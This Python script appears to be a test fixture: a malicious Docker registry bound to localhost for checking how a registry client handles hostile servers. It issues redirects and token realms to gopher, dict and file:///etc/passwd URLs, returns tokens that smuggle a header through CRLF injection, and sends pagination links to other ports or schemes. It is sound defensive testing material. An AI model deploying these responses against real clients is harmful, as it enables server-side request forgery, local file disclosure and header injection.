#!/usr/bin/env python3
"""A registry that answers with what an attacker would: redirects and token realms to
other protocols. usage: evil_registry.py PORT RAW-PORT
  /v2/                      200, or 401 with a realm from ?realm= of the last request path
  /v2/<name>/manifests/<t>  302 to <name> decoded: gopher | file | dict
  /v2/token-<kind>/...      401 with a realm of its own /token?kind=<kind>, which answers a
                            token that is: crlf (a header line after it), space, empty
  /v2/pages-<to>/tags/list  a page of tags whose Link sends the next page to: self (a
                            second page here), other (the raw port), scheme (file://)
  any request carrying an X-Injected header is recorded in injected.log (cwd)
Listens on 127.0.0.1 only; stops when killed."""
import json
import http.server
import sys

port, raw = int(sys.argv[1]), int(sys.argv[2])
TARGETS = {
    "gopher": f"gopher://127.0.0.1:{raw}/_HELLO%0d%0a",
    "file": "file:///etc/passwd",
    "dict": f"dict://127.0.0.1:{raw}/HELLO",
}


class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def answer(self, code, headers=()):
        self.send_response(code)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_GET(self):
        if self.headers.get("X-Injected"):
            open("injected.log", "a").write(self.path + "\n")
        if self.path.startswith("/token?kind="):
            tok = {"crlf": "abc\r\nX-Injected: yes", "space": "abc def", "empty": ""}[self.path.split("=", 1)[1].split("&")[0]]
            body = json.dumps({"token": tok, "expires_in": 300}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        parts = self.path.split("/")
        # /v2/realm-<kind>/...: every request asks for a token from that realm
        kind = parts[2] if len(parts) > 2 else ""
        if kind.startswith("pages-") and len(parts) > 3 and parts[3].startswith("tags"):
            second = "last=" in self.path
            nxt = {"self": f"/v2/{kind}/tags/list?n=1000&last=a",
                   "other": f"http://127.0.0.1:{raw}/v2/{kind}/tags/list?last=a",
                   "scheme": "file:///etc/passwd"}[kind[6:]]
            body = json.dumps({"name": kind, "tags": ["b"] if second else ["a"]}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            if not second:
                self.send_header("Link", f'<{nxt}>; rel="next"')
            self.end_headers()
            self.wfile.write(body)
            return
        if kind.startswith("token-") and not self.headers.get("Authorization"):
            realm = f"http://127.0.0.1:{port}/token?kind={kind[6:]}"
            self.answer(401, [("WWW-Authenticate", f'Bearer realm="{realm}",service="evil",scope="repository:x:pull"')])
        elif kind.startswith("token-"):
            self.answer(404)
        elif kind.startswith("realm-"):
            realm = TARGETS[kind[6:]]
            self.answer(401, [("WWW-Authenticate", f'Bearer realm="{realm}",service="evil",scope="repository:x:pull"')])
        elif len(parts) > 4 and parts[3] == "manifests" and kind in TARGETS:
            self.answer(302, [("Location", TARGETS[kind])])
        else:
            self.answer(200, [("Docker-Distribution-API-Version", "registry/2.0")])

    do_HEAD = do_GET


http.server.HTTPServer(("127.0.0.1", port), H).serve_forever()
